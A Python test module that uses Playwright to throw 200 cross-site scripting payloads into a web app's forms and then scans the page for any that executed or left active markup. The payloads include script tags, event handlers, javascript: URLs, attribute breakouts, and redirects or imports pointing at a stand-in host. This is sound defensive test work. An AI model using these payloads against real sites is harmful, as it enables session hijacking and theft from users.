"""Two hundred texts that would run, or bend a page, where a template forgot to escape; and what finds them."""

from __future__ import annotations

from itertools import product
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from playwright.sync_api import Page

# First what closes whatever the text stands in, then what acts.
CLOSES = ("", '">', "'>", "-->", "</title>", "</textarea>", "</script>", "</option></select>", "]]>", "\\x3e`")
ACTS = (
    "<script>kanarie()</script>",
    "<ScRiPt/x>kanarie()</ScRiPt>",
    "<img src=x onerror=kanarie()>",
    "<svg/onload=kanarie()>",
    "<svg><script>kanarie()</script>",
    "<iframe srcdoc='<script>kanarie()</script>'>",
    "<iframe src=javascript:kanarie()>",
    "<details open ontoggle=kanarie()>",
    "<input autofocus onfocus=kanarie()>",
    "<a href=javascript:kanarie()>klik</a>",
    "<a href='&#106;avascript:kanarie()'>klik</a>",
    "<form action=javascript:kanarie()><button>ok",
    "<object data=javascript:kanarie()>",
    "<math><mi xlink:href=data:,kanarie()>x",
    "<base href=//kwaad.example/>kanarie",
    "<meta http-equiv=refresh content=0;//kwaad.example>kanarie",
    "<style>@import'//kwaad.example/kanarie'</style>",
    '" onmouseover="kanarie()" x="',
    "' autofocus onfocus='kanarie()' x='",
    "&lt;script&gt;kanarie()&lt;/script&gt;{{ 7|add:7 }}{% now %}",
)
PAYLOADS = tuple(close + act for close, act in product(CLOSES, ACTS))

LISTEN = """
window.ran = [];
window.kanarie = () => window.ran.push("a payload ran");
addEventListener("securitypolicyviolation", event => window.ran.push("refused: " + event.violatedDirective));
"""
LOOK = r"""() => {
  const tags = ["script", "iframe", "frame", "object", "embed", "base", "math", "img", "image", "video", "audio",
    "style", "marquee", "template"];
  const wrong = [...(window.ran || [])];
  for (const each of document.querySelectorAll("*")) {
    const name = each.tagName.toLowerCase();
    const acts = [...each.attributes].filter(one => one.name.startsWith("on") || one.name === "srcdoc"
      || one.name === "http-equiv" || one.name === "autofocus" && !each.matches(".house-summary")
      || /^\s*(javascript|vbscript|data):/i.test(one.value));
    const ours = each.matches("script[src^='/static/js/']:empty") && acts.length === 0;
    if (!ours && tags.includes(name) || acts.length) wrong.push(each.outerHTML.slice(0, 160));
  }
  return wrong;
}"""
# Put a text into every box of the page's form, also where the browser would not let one type it.
FILL = """text => {
  const form = document.querySelector("main form[method=post]:has([name])");
  let filled = 0;
  for (const box of form.querySelectorAll("input, textarea")) {
    if (["hidden", "checkbox", "radio", "file", "submit"].includes(box.type)) continue;
    if (box.type !== "textarea") box.type = "text";
    box.removeAttribute("maxlength");
    box.value = text;
    filled += 1;
  }
  if (!filled) throw new Error(`nothing to fill in on ${location}`);
  form.submit();
}"""


def wrong(page: Page) -> list[Any]:
    """What on this page came from a payload and is more than text."""
    return [f"{page.url}: {found}" for found in page.evaluate(LOOK)]
